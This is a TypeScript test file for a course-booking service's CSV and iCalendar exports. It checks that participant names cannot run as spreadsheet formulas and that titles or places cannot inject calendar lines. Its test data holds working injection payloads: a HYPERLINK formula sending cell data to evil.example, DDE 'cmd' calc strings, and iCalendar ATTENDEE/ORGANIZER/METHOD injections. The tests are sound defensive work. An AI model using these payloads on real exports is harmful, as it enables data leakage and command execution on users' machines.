/**
 * The files people download carry other people's text: the participant list must not run as a
 * spreadsheet formula, and no title or place may add a line to a calendar file.
 */
import { randomUUID } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { textCell } from '../../lib/spreadsheet.js';
import { buildCourse, buildOrganisation, buildUser, sessionInput, type TestUser } from '../../test/factories.js';
import { buildTestApp, gql, type TestApp } from '../../test/helper.js';
import { courseSessions, offers } from '../offers/tables.js';
import { participants } from './tables.js';

let app: TestApp;
let school: Awaited<ReturnType<typeof buildOrganisation>>;

beforeAll(async () => {
  app = await buildTestApp();
  school = await buildOrganisation(app, { kind: 'EDUCATIONAL' });
});
afterAll(() => app.closeAndDrop());

async function courseSession(title = 'Aurinkosähkökurssi', place = 'Jokiväylä 11, Rovaniemi') {
  const course = await buildCourse(app, { title }, { organisation: school, sessions: [sessionInput({ place })] });
  const r = await gql(app, `query ($id: ID!) { offer(id: $id) { sessions { id } } }`, { id: course.id });
  return { offerId: course.id as string, sessionId: r.data!.offer.sessions[0].id as string };
}

async function book(who: TestUser, sessionId: string, people: { name: string; email: string }[]) {
  const r = await gql(
    app,
    `mutation ($input: BookSeatsInput!) { bookSeats(input: $input) { id } }`,
    { input: { sessionId, idempotencyKey: randomUUID(), participants: people } },
    { token: who.token },
  );
  expect(r.errors).toBeUndefined();
  return r.data!.bookSeats.id as string;
}

/** Parses semicolon-separated CSV as csv-stringify writes it (quoted cells, "" for a quote). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (quoted) {
      cell += c;
    } else if (c === ';') {
      endCell();
    } else if (c === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else if (c !== '\r') {
      cell += c;
    }
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe('participants CSV', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A2;"Avaa")', `'=HYPERLINK("https://evil.example/?"&A2;"Avaa")`],
    ['+358 40 123 4567', `'+358 40 123 4567`],
    ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['Äijä Öhman', 'Äijä Öhman'],
    ['Anna-Liisa = Liisa', 'Anna-Liisa = Liisa'],
  ])('shows the name %j as text', async (name, cell) => {
    const { sessionId } = await courseSession();
    const booker = await buildUser(app, { displayName: name });
    await book(booker, sessionId, [{ name, email: 'osallistuja@example.fi' }]);
    const response = await app.inject({
      url: `/api/sessions/${sessionId}/participants.csv`,
      headers: { authorization: `Bearer ${school.owner.token}` },
    });
    expect(response.statusCode).toBe(200);
    const [header, row] = parseCsv(response.rawPayload.subarray(3).toString('utf8'));
    expect(header![0]).toBe('Nimi');
    expect(row![0]).toBe(cell);
    // The booker's name is a person's text too.
    expect(row![4]).toBe(cell);
  });

  it('neutralises a tab or carriage return at the start of text stored before such text was refused', async () => {
    const { sessionId } = await courseSession();
    const bookingId = await book(await buildUser(app), sessionId, [{ name: 'Tabi', email: 'tab@example.fi' }]);
    await app.db.update(participants).set({ name: '\t=1+1' }).where(eq(participants.bookingId, bookingId));
    const response = await app.inject({
      url: `/api/sessions/${sessionId}/participants.csv`,
      headers: { authorization: `Bearer ${school.owner.token}` },
    });
    const [, row] = parseCsv(response.rawPayload.subarray(3).toString('utf8'));
    expect(row![0]).toBe(`'\t=1+1`);
  });

  it('prefixes exactly the cells a spreadsheet reads as formulas', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(textCell(`${start}x`)).toBe(`'${start}x`);
    for (const safe of ['x=1', ' =1', "'=1", '', 'Åsa']) expect(textCell(safe)).toBe(safe);
    expect(textCell(null)).toBe('');
  });
});

/** An iCalendar file as content lines: unfolded, each split into name, parameters and value. */
function parseIcs(body: string) {
  expect(body.endsWith('\r\n')).toBe(true);
  const physical = body.slice(0, -2).split('\r\n');
  for (const line of physical) {
    // RFC 5545 3.1: lines end in CRLF only, and are folded at 75 octets.
    expect(line).not.toMatch(/[\r\n]/);
    expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    expect(line).not.toMatch(/[^\P{Cc}\t]/u);
  }
  const lines = body
    .slice(0, -2)
    .replace(/\r\n[ \t]/g, '')
    .split('\r\n');
  return lines.map((line) => {
    const match = /^([A-Z][A-Z0-9-]*)((?:;[^:]*)?):(.*)$/.exec(line);
    expect(match, line).not.toBeNull();
    return { name: match![1]!, value: match![3]! };
  });
}

/** RFC 5545 TEXT unescaped; a backslash before anything else is not valid TEXT. */
function unescapeText(value: string): string {
  expect(value).not.toMatch(/(^|[^\\])(\\\\)*\\[^\\;,nN]/);
  expect(value).not.toMatch(/(^|[^\\])(\\\\)*[;,]/);
  return value.replace(/\\([\\;,nN])/g, (_, c: string) => (c === 'n' || c === 'N' ? '\n' : c));
}

const CALENDAR_PROPERTIES = ['BEGIN', 'VERSION', 'PRODID', 'METHOD', 'NAME', 'X-WR-CALNAME', 'END'];
const EVENT_PROPERTIES = [
  'BEGIN',
  'UID',
  'SEQUENCE',
  'DTSTAMP',
  'DTSTART',
  'DTEND',
  'SUMMARY',
  'LOCATION',
  'URL',
  'STATUS',
  'END',
];

describe('iCalendar', () => {
  const INJECTED_TITLE =
    'Aurinko; sähkö, ja \\ varastointi\r\nATTENDEE;CN=Hyökkääjä:mailto:evil@example.fi\nX-INJECTED:1\rMETHOD:CANCEL\u0007\u001b[2J — ' +
    'pitkä otsikko '.repeat(8);
  const INJECTED_PLACE = 'Sali 1; kerros 2, Rovaniemi\r\nORGANIZER:mailto:evil@example.fi';

  it('escapes and folds the calendar name, title and place, so no text adds a property', async () => {
    const { offerId, sessionId } = await courseSession('Aurinkokurssi', 'Sali 1');
    // Text stored before control characters were refused (PostgreSQL itself refuses only NUL): the file still holds.
    await app.db.update(offers).set({ title: INJECTED_TITLE }).where(eq(offers.id, offerId));
    await app.db.update(courseSessions).set({ place: INJECTED_PLACE }).where(eq(courseSessions.id, sessionId));
    const user = await buildUser(app);
    const bookingId = await book(user, sessionId, [{ name: 'Eino', email: 'eino@example.fi' }]);
    const feedUrl = (await gql(app, `mutation { createCalendarFeed }`, {}, { token: user.token })).data!
      .createCalendarFeed as string;

    const files = [
      (await app.inject(`/api/sessions/${sessionId}.ics`)).body,
      (await app.inject({ url: `/api/bookings/${bookingId}.ics`, headers: { authorization: `Bearer ${user.token}` } }))
        .body,
      (await app.inject(new URL(feedUrl).pathname)).body,
    ];
    const expectedTitle = INJECTED_TITLE.replace(/[^\P{Cc}\r\n]/gu, '').replace(/\r\n|\r|\n/g, '\n');
    for (const [i, body] of files.entries()) {
      const lines = parseIcs(body);
      const names = lines.map((l) => l.name);
      expect(names.filter((n) => !CALENDAR_PROPERTIES.includes(n) && !EVENT_PROPERTIES.includes(n))).toEqual([]);
      expect(names.filter((n) => n === 'BEGIN')).toHaveLength(2);
      const value = (name: string) => unescapeText(lines.find((l) => l.name === name)!.value);
      expect(value('SUMMARY')).toBe(expectedTitle);
      expect(value('LOCATION')).toBe(`${INJECTED_PLACE.replace(/\r\n/g, '\n')}, Rovaniemi`);
      // The session's and the booking's calendars are named after the course; the feed after the service.
      expect(value('X-WR-CALNAME')).toBe(i < 2 ? expectedTitle : 'Osaamisen keskusvaraamo');
      expect(value('NAME')).toBe(value('X-WR-CALNAME'));
    }
  });

  it('keeps a title with commas and semicolons readable', async () => {
    const { sessionId } = await courseSession('Tuuli, aurinko; bio – perusteet', 'Sali 1, Rovaniemi');
    const lines = parseIcs((await app.inject(`/api/sessions/${sessionId}.ics`)).body);
    expect(unescapeText(lines.find((l) => l.name === 'X-WR-CALNAME')!.value)).toBe('Tuuli, aurinko; bio – perusteet');
    expect(unescapeText(lines.find((l) => l.name === 'SUMMARY')!.value)).toBe('Tuuli, aurinko; bio – perusteet');
  });
});
